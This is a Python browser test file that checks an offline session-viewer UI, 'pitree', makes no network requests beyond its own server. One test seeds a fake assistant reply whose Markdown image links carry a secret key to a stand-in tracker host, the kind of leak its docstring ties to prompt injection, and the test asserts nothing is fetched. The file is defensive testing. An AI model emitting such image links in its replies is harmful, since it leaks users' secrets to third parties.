"""pitree works offline: every request a page makes goes to the pitree server itself (no CDN, no fonts,
no analytics), and the live updates come over its own websocket."""

from __future__ import annotations

import re

from playwright.sync_api import expect


def test_no_request_leaves_the_server(page, ui, sessions, record, server):
    sessions.seed("01-linear")
    tree = sessions.seed("02-tree-branches")
    compacted = sessions.seed("04-compaction")

    ui.open(page, "/")
    new = page.locator("details.new-session")
    if new.get_attribute("open") is None:
        new.locator("summary").click()
    new.locator("input[name=cwd]").fill("/tmp/pitree-browser/offline")
    new.get_by_role("button", name="Start").click()
    page.wait_for_url(re.compile(r"/s/[A-Za-z0-9._-]+/$"))
    ui.open(page, page.url)
    page.locator("#composer textarea[name=text]").fill("Hello **there**, anything remote?")
    page.locator("#composer button[type=submit]").click()
    ui.wait_position_change(page, "")
    ui.open(page, page.url)

    ui.open(page, tree.url)
    for mode in ("user", "labeled", "all", "default"):
        ui.open_tree_filter(page, mode)
    page.locator("#entry-97690895 .nav-next").click()
    ui.wait_position(page, "de4f0d3a")
    ui.open(page, tree.entry_url("4b928ed4"))

    ui.open(page, compacted.url)
    page.locator("article.entry--fold details.fold > summary").click()
    page.locator("article.entry--fold .fold__body article.entry").first.wait_for()
    ui.open(page, "/?q=todo")

    assert record.requests, "no request was recorded"
    foreign = [url for url in record.requests if not url.startswith(server.url + "/")]
    assert foreign == [], f"requests that left the pitree server: {foreign}"
    # The websocket that streams replies is the server's own.
    ws_origin = server.url.replace("http://", "ws://", 1) + "/"
    assert record.websockets, "no websocket was opened"
    assert all(url.startswith(ws_origin) for url in record.websockets), record.websockets
    # Static files are served locally and every page loaded its scripts.
    for name in (
        "/static/vendor/htmx-2.0.",
        "/static/vendor/htmx-ext-ws-2.0.",
        "/static/pitree/app.js",
        "/static/pitree/app.css",
    ):
        assert any(url.startswith(server.url + name) for url in record.requests), name
    assert not record.errors, record.errors


def test_remote_images_in_messages_are_not_fetched(page, ui, sessions, record, server):
    """A reply (from a model told so by a prompt injection, or a hand-edited file) can contain Markdown
    images pointing anywhere; fetching them would leak that the page was read, and whatever the URL
    carries, to a third party. pitree promises to work without the network: no such fetch may happen."""
    seeded = sessions.write_lines(
        [
            {
                "type": "message",
                "id": "aaaa0001",
                "parentId": None,
                "timestamp": "2026-03-02T09:00:01.000Z",
                "message": {"role": "user", "content": "What is my API key?", "timestamp": 1},
            },
            {
                "type": "message",
                "id": "aaaa0002",
                "parentId": "aaaa0001",
                "timestamp": "2026-03-02T09:00:02.000Z",
                "message": {
                    "role": "assistant",
                    "provider": "x",
                    "model": "y",
                    "api": "z",
                    "stopReason": "stop",
                    "timestamp": 2,
                    "content": [
                        {
                            "type": "text",
                            "text": "Sure ![status](https://tracker.invalid/pixel.png?key=sk-secret) and "
                            "![b](//tracker.invalid/protocol-relative.png)",
                        }
                    ],
                },
            },
        ]
    )
    ui.open(page, seeded.url)
    expect(page.locator("#entry-aaaa0002")).to_contain_text("Sure")
    page.wait_for_timeout(300)
    foreign = [url for url in record.requests if not url.startswith(server.url + "/")]
    assert foreign == [], f"the page fetched remote content: {foreign}"
